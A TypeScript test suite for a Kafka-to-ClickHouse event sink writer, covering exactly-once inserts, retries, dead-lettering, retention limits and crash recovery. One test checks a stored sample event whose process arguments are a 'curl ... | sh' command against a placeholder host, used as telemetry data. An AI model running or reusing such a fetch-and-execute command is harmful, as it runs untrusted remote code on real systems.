import t from 'tap';
import { EVENTS, type TableSpec } from '@tracehound/clickhouse';
import type { BatchContext, ConsumedRecord } from '@tracehound/kafka';
import { TracehoundError } from '@tracehound/errors';
import { silentLogger } from '@tracehound/logging';
import { metricValue } from '@tracehound/testkit';
import type { Event } from '@tracehound/schemas';
import { clickhouseStore, type SinkStore } from '../src/adapters/store.js';
import { SINK_TABLES } from '../src/tables.js';
import { SinkWriter } from '../src/writer.js';
import { RETENTION, count, embeddedClickHouse, freshEvents, migrated, switchableClickHouse } from './helpers.js';

const TOPIC = 'p.events.enriched';
const tables = new Map([[TOPIC, SINK_TABLES[0]!]]);

function records(events: Event[], partition = 0, firstOffset = 0): ConsumedRecord<unknown>[] {
  return events.map((value, i) => ({ topic: TOPIC, partition, offset: String(firstOffset + i), key: null, value, headers: {}, timestamp: '0', raw: {} as never }));
}

/**
 * What BatchConsumer hands the writer: dead letters are queued, and sent when the writer flushes
 * them or after it returns (`finish`); `crash()` loses what is still queued, as a killed process does.
 */
function context() {
  const dead: Array<{ offset: string; code: string; reason: string }> = [];
  let queued: typeof dead = [];
  let heartbeats = 0;
  let running = true;
  const flush = async () => void dead.push(...queued.splice(0));
  const ctx: BatchContext = {
    deadLetter: (r, code, reason) => void queued.push({ offset: r.offset, code, reason }),
    flushDeadLetters: flush,
    heartbeat: async () => void heartbeats++,
    isRunning: () => running,
  };
  return {
    ctx, dead, heartbeats: () => heartbeats,
    finish: flush,
    crash: () => {
      running = false;
      queued = [];
    },
  };
}

t.test('a batch re-delivered with other boundaries after an insert that was never committed is stored once', async (t) => {
  const ch = embeddedClickHouse(t);
  await migrated(t, ch);
  const events = freshEvents(1000);
  const w1 = new SinkWriter({ store: clickhouseStore(ch, 'sink'), tables, batchRows: 300, logger: silentLogger() });
  await w1.handle(records(events.slice(0, 450)), context().ctx); // stored, then the process "dies" before the commit
  // A new process: first fetch from the committed offset 0 brings more records, in other chunks.
  const w2 = new SinkWriter({ store: clickhouseStore(ch, 'sink'), tables, batchRows: 256, logger: silentLogger() });
  await w2.handle(records(events), context().ctx);
  await w2.handle(records(events.slice(700), 0, 700), context().ctx); // and once more, as a plain re-delivery
  t.equal(await count(ch, 'SELECT count() FROM sink.events'), 1000, 'each event exactly once');
  t.equal(await count(ch, 'SELECT uniqExact(id) FROM sink.events'), 1000);
  t.equal(await count(ch, 'SELECT sum(events) FROM sink.events_per_minute'), 1000, 'the roll-up agrees');
});

t.test('the same chunk inserted twice (an unclear failure retried) is stored once: the token holds', async (t) => {
  const ch = embeddedClickHouse(t);
  await migrated(t, ch);
  const inner = clickhouseStore(ch, 'sink');
  let failAfter = 2;
  const store: SinkStore = {
    native: inner.native,
    storedUpTo: inner.storedUpTo,
    async insert(spec: TableSpec, rows, token, columns) {
      await inner.insert(spec, rows, token, columns);
      // The insert held but the answer is lost (timeout, connection reset): the writer must retry.
      if (failAfter-- > 0) throw Object.assign(new Error('socket hang up'), { code: 'ECONNRESET' });
    },
  };
  const w = new SinkWriter({ store, tables, batchRows: 100, logger: silentLogger(), retry: { initialDelayMs: 5, maxDelayMs: 10 } });
  const c = context();
  await w.handle(records(freshEvents(250)), c.ctx);
  t.equal(await count(ch, 'SELECT count() FROM sink.events'), 250);
  t.ok(c.heartbeats() >= 2, 'heartbeats while waiting');
});

t.test('rows the engine refuses go to the dead-letter topic with the reason; the rest is stored', async (t) => {
  const ch = embeddedClickHouse(t);
  await migrated(t, ch);
  // Both embedded insert paths: chDB's raw insert (small chunks) and the payload file (large ones).
  for (const via of ['raw', 'file'] as const) {
    const events = freshEvents(200, via);
    // A lone UTF-16 surrogate in an argument: JSON carries it as \ud800, which the engine refuses.
    for (const i of [17, 123, 124]) events[i]!.process!.args = ['sh', '-c', 'echo \ud800'];
    const w = new SinkWriter({ store: clickhouseStore(ch, 'sink', 'JSONCompactEachRow', via), tables, batchRows: 1000, logger: silentLogger() });
    const c = context();
    await w.handle(records(events, via === 'raw' ? 0 : 1, 5000), c.ctx);
    await c.finish();
    t.same(c.dead.map((d) => d.offset), ['5017', '5123', '5124'], via);
    t.ok(c.dead.every((d) => d.code === 'TH_ERR_CLICKHOUSE_DATA' && /escape sequence/i.test(d.reason)), `${via}: the reason names the problem`);
  }
  t.equal(await count(ch, 'SELECT count() FROM sink.events'), 2 * 197);
});

/** Rows each format refuses: a lone UTF-16 surrogate in JSON (\ud800 escaped, refused by the engine), a negative pid in Native (refused by the encoder). */
const REFUSED = {
  JSONCompactEachRow: (e: Event) => void (e.process!.args = ['sh', '-c', 'echo \ud800']),
  Native: (e: Event) => void (e.process!.pid = -5),
} as const;
/** The Kafka offset of what the writer hands the store: a row object (JSON) or the consumed record itself (Native). */
const offsetOf = (r: unknown) => Number((r as { kafka_offset?: unknown; offset?: unknown }).kafka_offset ?? (r as { offset: unknown }).offset);

t.test('Native inserts: a row the encoder cannot write is dead-lettered with the reason; the rest is stored', async (t) => {
  const ch = embeddedClickHouse(t);
  await migrated(t, ch);
  const events = freshEvents(200, 'native');
  for (const i of [3, 150, 151]) REFUSED.Native(events[i]!);
  const w = new SinkWriter({ store: clickhouseStore(ch, 'sink'), tables, batchRows: 1000, logger: silentLogger() });
  const c = context();
  await w.handle(records(events, 2, 100), c.ctx);
  await c.finish();
  t.same(c.dead.map((d) => d.offset), ['103', '250', '251']);
  t.ok(c.dead.every((d) => d.code === 'TH_ERR_CLICKHOUSE_DATA' && /Native/.test(d.reason)), 'the reason names the problem');
  t.equal(await count(ch, 'SELECT count() FROM sink.events'), 197);
  t.equal(await count(ch, "SELECT count() FROM sink.events WHERE id = 'native-4' AND pid = 4242 AND args = ['bash', '-c', 'curl -s http://example.invalid | sh']"), 1, 'a good row intact');
});

for (const format of ['JSONCompactEachRow', 'Native'] as const) {
  t.test(`${format}: a crash after a split batch stored some good rows loses no dead letter: the re-delivery skips only what is settled`, async (t) => {
    const ch = embeddedClickHouse(t);
    await migrated(t, ch);
    const events = freshEvents(200);
    for (const i of [17, 123, 124]) REFUSED[format](events[i]!);
    const inner = clickhouseStore(ch, 'sink', format);
    const first = context();
    // The process dies right after the first insert that holds a row past offset 5100 (5017 is refused before it).
    const store: SinkStore = {
      native: inner.native,
      storedUpTo: inner.storedUpTo,
      async insert(spec: TableSpec, rows, token, columns) {
        await inner.insert(spec, rows, token, columns);
        if (rows.some((r) => offsetOf(r) > 5100)) {
          first.crash();
          throw new Error('killed');
        }
      },
    };
    const w1 = new SinkWriter({ store, tables, batchRows: 1000, logger: silentLogger(), retry: { initialDelayMs: 5, maxDelayMs: 10 } });
    await t.rejects(w1.handle(records(events, 0, 5000), first.ctx), /killed/);
    const stored = await count(ch, 'SELECT count() FROM sink.events');
    t.ok(stored > 17 && stored < 197, `the crash came after good rows past the refused one were stored (${stored})`);
    // A new process: the batch is delivered again from the committed offset.
    const second = context();
    const w2 = new SinkWriter({ store: inner, tables, batchRows: 1000, logger: silentLogger() });
    await w2.handle(records(events, 0, 5000), second.ctx);
    await second.finish();
    const sent = [...first.dead, ...second.dead].map((d) => d.offset);
    t.same([...new Set(sent)].sort(), ['5017', '5123', '5124'], 'every refused row reached the dead-letter topic');
    t.equal(await count(ch, 'SELECT count() FROM sink.events'), 197, 'the good rows exactly once');
  });
}

t.test('ClickHouse closed mid-stream: the writer waits, reports unavailable, and stores everything once it is back', async (t) => {
  const ch = switchableClickHouse(t);
  await migrated(t, ch);
  const w = new SinkWriter({ store: clickhouseStore(ch, 'sink'), tables, batchRows: 100, logger: silentLogger(), retry: { initialDelayMs: 20, maxDelayMs: 50 } });
  const events = freshEvents(600);
  await w.handle(records(events.slice(0, 300)), context().ctx);
  await ch.closeEngine();
  const pending = w.handle(records(events.slice(300), 0, 300), context().ctx);
  await new Promise((r) => setTimeout(r, 300));
  t.equal(w.clickhouseUp, false, 'unavailable is visible');
  ch.reopenEngine();
  await pending;
  t.equal(w.clickhouseUp, true);
  t.equal(await count(ch, 'SELECT count() FROM sink.events'), 600);
  t.equal(EVENTS.name, 'events');
});

/** A store that records each insert's rows and token on the way to the real one. */
function countingStore(inner: SinkStore) {
  const inserts: Array<{ rows: number; offsets: string[]; token: string }> = [];
  const store: SinkStore = {
    native: inner.native,
    storedUpTo: inner.storedUpTo,
    async insert(spec: TableSpec, rows, token, columns) {
      inserts.push({ rows: rows.length, offsets: rows.map((r) => `${(r as ConsumedRecord<unknown>).partition}:${offsetOf(r)}`), token });
      await inner.insert(spec, rows, token, columns);
    },
  };
  return { store, inserts };
}

t.test('batches of several partitions handed over together go into one insert; each keeps its dead letters, order and progress', async (t) => {
  const ch = embeddedClickHouse(t);
  await migrated(t, ch);
  const events = freshEvents(900, 'gather');
  REFUSED.Native(events[450]!); // partition 1's offset 150
  const { store, inserts } = countingStore(clickhouseStore(ch, 'sink'));
  // Each batch first asks the table for its partition's progress (a real query, slower on a busy
  // machine than the default 5 ms window), so the window here leaves room for all three to join.
  const w = new SinkWriter({ store, tables, batchRows: 10_000, logger: silentLogger(), gatherMs: 200 });
  const contexts = [0, 1, 2].map(() => context());
  // One fetch: three partitions' batches, handled at once as kafkajs does.
  await Promise.all([0, 1, 2].map((p) => w.handle(records(events.slice(p * 300, (p + 1) * 300), p, 0), contexts[p]!.ctx)));
  for (const c of contexts) await c.finish();
  t.equal(inserts[0]!.rows, 900, 'the first insert holds all three batches');
  t.match(inserts[0]!.token, /^ranges:[0-9a-f]{64}$/, 'a token over the three ranges');
  t.same(contexts.map((c) => c.dead.map((d) => d.offset)), [[], ['150'], []], 'the refused row is dead-lettered to its own batch');
  for (const p of [0, 1, 2]) {
    const stored = inserts.flatMap((i) => i.offsets).filter((o) => o.startsWith(`${p}:`)).map((o) => Number(o.split(':')[1]));
    t.same(stored.slice(0, 300), Array.from({ length: 300 }, (_, i) => i), `partition ${p}: its rows in offset order`);
  }
  t.equal(await count(ch, 'SELECT count() FROM sink.events'), 899);
  // Delivered again (not committed): every partition's progress is known, nothing is inserted.
  const before = inserts.length;
  await Promise.all([0, 1, 2].map((p) => w.handle(records(events.slice(p * 300, (p + 1) * 300), p, 0), context().ctx)));
  t.equal(inserts.length, before, 'nothing inserted again');
  // A new writer (a restart) learns each partition's progress from the table.
  const w2 = new SinkWriter({ store, tables, batchRows: 10_000, logger: silentLogger() });
  await Promise.all([0, 1, 2].map((p) => w2.handle(records(events.slice(p * 300, (p + 1) * 300), p, 0), context().ctx)));
  t.equal(inserts.length, before, 'nothing inserted after a restart either');
  t.equal(await count(ch, 'SELECT count() FROM sink.events'), 899, 'each row once');
});

t.test('gathered rows past batchRows go in equal chunks; batches arriving after the gathering window start a round of their own', async (t) => {
  const ch = embeddedClickHouse(t);
  await migrated(t, ch);
  const events = freshEvents(1000, 'chunks');
  const { store, inserts } = countingStore(clickhouseStore(ch, 'sink'));
  const w = new SinkWriter({ store, tables, batchRows: 400, logger: silentLogger(), gatherMs: 150 });
  await Promise.all([0, 1, 2].map((p) => w.handle(records(events.slice(p * 200, (p + 1) * 200), p, 0), context().ctx)));
  t.same(inserts.map((i) => i.rows), [300, 300], '600 rows of three batches in two equal chunks of at most 400');
  t.equal(inserts[0]!.offsets.filter((o) => o.startsWith('1:')).length, 100, 'the first chunk ends inside the second partition');
  inserts.length = 0;
  const late = new Promise((r) => setTimeout(r, 600)).then(() => w.handle(records(events.slice(800), 4, 0), context().ctx));
  await Promise.all([w.handle(records(events.slice(600, 800), 3, 0), context().ctx), late]);
  t.same(inserts.map((i) => i.rows), [200, 200], 'a batch after the window: an insert of its own');
  t.same(inserts.map((i) => i.token), ['p.events.enriched:3:0-199', 'p.events.enriched:4:0-199'], 'one partition: the plain range token');
  t.equal(await count(ch, 'SELECT count() FROM sink.events'), 1000);
});

t.test('records older than their table\'s retention are dead-lettered with the reason and counted, not stored for the TTL to drop', async (t) => {
  const ch = embeddedClickHouse(t);
  await migrated(t, ch);
  const events = freshEvents(100, 'old');
  const day = 86_400_000_000_000n;
  events[10]!.ts -= 31n * day; // past the 30 days of RETENTION
  events[11]!.ts -= 29n * day; // inside them
  events[99]!.ts -= 400n * day;
  const before = await metricValue('tracehound_sink_rows_past_retention_total', { table: 'events' });
  const w = new SinkWriter({ store: clickhouseStore(ch, 'sink'), tables, batchRows: 1000, logger: silentLogger(), retention: RETENTION });
  const c = context();
  await w.handle(records(events, 0, 0), c.ctx);
  await c.finish();
  t.same(c.dead.map((d) => d.offset), ['10', '99']);
  t.ok(c.dead.every((d) => d.code === 'TH_ERR_PAST_RETENTION' && /30-day retention of events/.test(d.reason)), 'the reason names the retention and the table');
  t.equal(await count(ch, 'SELECT count() FROM sink.events'), 98);
  t.equal(await count(ch, "SELECT count() FROM sink.events WHERE id = 'old-11'"), 1, 'an event inside the retention is stored');
  const after = await metricValue('tracehound_sink_rows_past_retention_total', { table: 'events' });
  t.equal(after - before, 2, 'counted');
  // Without a retention (a writer not given one) nothing is refused for its age: the row is
  // inserted (and the TTL may drop it at any merge, which is why the sink is given one).
  const { store, inserts } = countingStore(clickhouseStore(ch, 'sink'));
  const w2 = new SinkWriter({ store, tables, batchRows: 1000, logger: silentLogger() });
  const c2 = context();
  await w2.handle(records([events[10]!], 1, 0), c2.ctx);
  await c2.finish();
  t.same({ inserted: inserts.map((i) => i.offsets), dead: c2.dead }, { inserted: [['1:0']], dead: [] });
});

t.test('a round whose second chunk fails: delivered again, the batches skip what the first chunk stored', async (t) => {
  const ch = embeddedClickHouse(t);
  await migrated(t, ch);
  const events = freshEvents(600, 'half');
  const counting = countingStore(clickhouseStore(ch, 'sink'));
  let fail = true;
  const store: SinkStore = {
    ...counting.store,
    async insert(spec, rows, token, columns) {
      if (counting.inserts.length === 1 && fail) {
        fail = false;
        counting.inserts.push({ rows: rows.length, offsets: [], token });
        throw new TracehoundError('TH_ERR_MIGRATION', 'the test refuses this insert');
      }
      await counting.store.insert(spec, rows, token, columns);
    },
  };
  // A window wide enough for the three batches' first progress queries on a busy machine (5 ms split this round in one run).
  const w = new SinkWriter({ store, tables, batchRows: 400, logger: silentLogger(), gatherMs: 200 });
  const batches = () => [0, 1, 2].map((p) => w.handle(records(events.slice(p * 200, (p + 1) * 200), p, 0), context().ctx));
  const first = await Promise.allSettled(batches());
  t.same(first.map((r) => r.status), ['rejected', 'rejected', 'rejected'], 'every batch of the round fails');
  t.equal(await count(ch, 'SELECT count() FROM sink.events'), 300, 'the first chunk held (the first partition and half the second)');
  await Promise.all(batches());
  t.same(counting.inserts.map((i) => i.rows), [300, 300, 300], 'delivered again: only the 300 rows not stored');
  t.equal(await count(ch, 'SELECT count() FROM sink.events'), 600);
  t.equal(await count(ch, 'SELECT uniqExact(id) FROM sink.events'), 600, 'each once');
});
